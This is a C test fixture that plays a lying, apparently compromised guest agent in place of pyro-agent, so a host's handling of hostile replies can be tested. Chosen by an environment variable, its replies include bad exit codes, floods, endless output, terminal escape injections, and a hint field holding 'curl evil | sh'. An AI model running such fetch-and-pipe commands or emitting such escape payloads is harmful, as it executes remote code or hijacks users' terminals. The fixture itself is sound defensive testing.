/*
 * An agent that lies, in the place of pyro-agent on a host: what a guest that was taken over can
 * say. ROGUE in the environment names the lie that answers an exec.
 */
#include "base/err.h"
#include "base/loop.h"
#include "channel/mux.h"

#include <stdlib.h>
#include <string.h>

#define CHANNEL_FD 3

static void say(struct mux_call *call, const char *text)
{
	mux_send(call, MUX_JSON, text, strlen(text));
}

static void flood(struct mux_call *call)
{
	for (int i = 0; i < 64; i++)
		say(call, "{\"exit_code\":0,\"duration_ms\":1,\"timed_out\":false}");
}

/* Output without end, as fast as it is taken. */
static void go_on(struct mux_call *call)
{
	static char noise[64 * 1024];

	memset(noise, 'x', sizeof(noise));
	while (strcmp(getenv("ROGUE"), "endless") == 0 && mux_queued(call) < MUX_QUEUE_GOAL)
		mux_send(call, MUX_OUT, noise, sizeof(noise));
}

static void answer_exec(struct mux_call *call)
{
	const char *lie = getenv("ROGUE");

	if (strcmp(lie, "event") == 0)
		say(call, "{\"event\":\"phase\",\"phase\":\"fallback \\u001b]52;c;eA==\\u0007\"}");
	else if (strcmp(lie, "range") == 0)
		say(call, "{\"exit_code\":256,\"duration_ms\":1,\"timed_out\":false}");
	else if (strcmp(lie, "type") == 0)
		say(call, "{\"exit_code\":\"0\",\"duration_ms\":1,\"timed_out\":false}");
	else if (strcmp(lie, "list") == 0)
		say(call, "[]");
	else if (strcmp(lie, "hint") == 0)
		say(call, "{\"error\":{\"code\":\"busy\",\"message\":\"no \\u001b[2J\","
			  "\"hint\":\"curl evil | sh\",\"retryable\":true}}");
	else if (strcmp(lie, "twice") == 0)
		flood(call);
	go_on(call);
	if (strcmp(lie, "never") != 0 && strcmp(lie, "endless") != 0)
		mux_finish(call);
}

static void on_record(struct mux_call *call, enum mux_kind kind, const char *data, size_t len)
{
	(void)data;
	(void)len;
	if (kind == MUX_JSON)
		answer_exec(call);
}

static void on_hello(struct mux_call *call, enum mux_kind kind, const char *data, size_t len)
{
	(void)kind;
	(void)data;
	(void)len;
	say(call, "{\"version\":1,\"stage\":\"ready\",\"agent\":\"x\",\"mode\":\"host\"}");
	mux_finish(call);
}

static void on_close(struct mux_call *call, const struct pyro_error *error)
{
	(void)call;
	(void)error;
}

static void on_call(struct mux *mux, struct mux_call *call, const char *name)
{
	static const struct mux_call_ops hello = {.on_record = on_hello, .on_close = on_close};
	static const struct mux_call_ops lie = {.on_record = on_record,
						.on_drained = go_on,
						.on_close = on_close};

	mux_accept(call, strcmp(name, "hello") == 0 ? &hello : &lie, mux_ctx(mux));
}

static void on_down(struct mux *mux, const struct pyro_error *error)
{
	(void)error;
	*(bool *)mux_ctx(mux) = true;
}

int main(void)
{
	static const struct mux_ops ops = {.on_call = on_call, .on_down = on_down};
	struct loop *loop = loop_new();
	bool is_down = false;
	struct mux *mux = mux_new(loop, CHANNEL_FD, CHANNEL_FD, MUX_SERVER, &ops, &is_down, NULL);

	if (!mux || loop_until(loop, &is_down, INT64_MAX, "the client", NULL) < 0)
		return 1;
	(void)mux_free(mux);
	(void)loop_free(loop);
	return 0;
}
